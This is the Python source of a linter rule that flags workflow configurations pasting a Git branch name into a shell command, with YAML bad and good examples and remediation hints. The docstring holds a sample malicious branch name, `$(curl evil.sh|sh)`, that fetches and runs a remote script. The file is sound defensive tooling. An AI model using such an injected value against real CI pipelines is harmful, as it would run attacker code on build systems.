"""The rule `command-injection`."""

from __future__ import annotations

from collections.abc import Iterator

from nflint.diagnostic import Finding, Severity
from nflint.flow.branch_names import Source, branch_sources
from nflint.flow.pull_requests import deliveries
from nflint.flow.reach import is_pasted
from nflint.flow.shell_commands import is_command, is_shell_command
from nflint.flow.uses import Use
from nflint.flow.wiring import Wiring
from nflint.rule import rule


@rule("NF707", Severity.WARNING, since="0.1.0", about=("command", "customCommand", "customEntrypoint", "customProcess"))
def command_injection(wiring: Wiring) -> Iterator[Finding]:
    """The name of a branch is pasted into a command that a shell reads.

    `$(curl evil.sh|sh)` could be a branch, and `${...}` pastes its name into the command before the shell reads it, so
    that quotes around do not help. A warning where pull requests start the flow, since whoever opens one names the
    branch; an info where the rules of the trigger have a wildcard, or a rich input offers all branches, since there
    anybody who may push does. An argument that is made of the name is as bad. Silent where the trigger names its
    branches in full, on commits and IDs, on what goes through `fn.slug` or `fn.toBase64`, on commands that no shell
    reads (an Action starts none by itself), after an Approval, and where the node or a workflow around it has a
    `skipNodeExecution` that reads the trigger. Values in `runtimeEnvironment` are safe: a shell does not read
    `$BRANCH` a second time.

    Source: the guide "Release", use Git triggers: "use them as part of a command override or shell command".

    Bad:

        triggers:
          - {ref: app, vcsService: github, repoUrl: "https://github.com/acme/api", prRestrictions: ["*"]}
        options: {concurrencyPolicy: queue}
        spec:
          kind: Workflow
          spec:
            type: sequential
            steps:
              - kind: Action
                spec:
                  kind: Job
                  spec: {type: execute, data: {jobId: notes, command: 'sh -c "note ${refs.app.branch}"'}}

    Good:

        triggers:
          - {ref: app, vcsService: github, repoUrl: "https://github.com/acme/api", prRestrictions: ["*"]}
        options: {concurrencyPolicy: queue}
        spec:
          kind: Workflow
          spec:
            type: sequential
            steps:
              - kind: Action
                spec:
                  kind: Job
                  spec: {type: execute, data: {jobId: notes, command: 'sh -c "note ${refs.app.sha}"'}}
    """
    pasted = [
        (use, source)
        for use, source in branch_sources(wiring, is_command, is_pasted)
        if source.freedom != "none" and is_shell_command(use.text) and is_pasted(use)
    ]
    known = deliveries(wiring) if pasted else {}
    for use, source in pasted:
        if use.node is not None and known[use.scope.pointer].is_guarded(use.node, source.trigger):
            continue
        severity = Severity.WARNING if source.freedom == "anybody" else Severity.INFO
        message = f"the name of a branch becomes part of a shell command, and {_who(source)} chooses it"
        yield Finding(use.place(), message, _hint(use), source.related, severity)


def _who(source: Source) -> str:
    return "whoever opens a pull request" if source.freedom == "anybody" else "whoever may push"


def _hint(use: Use) -> str:
    if use.text.node is not None and use.text.node.kind == "JobRun":
        return f"put '${{{use.source}}}' into 'runtimeEnvironment', as BRANCH, and write $BRANCH here"
    way = f"write '${{fn.slug({use.source})}}', by which 'fix/tax' becomes 'fix-tax'"
    return f"{way}; where the branch itself is needed, use the commit"
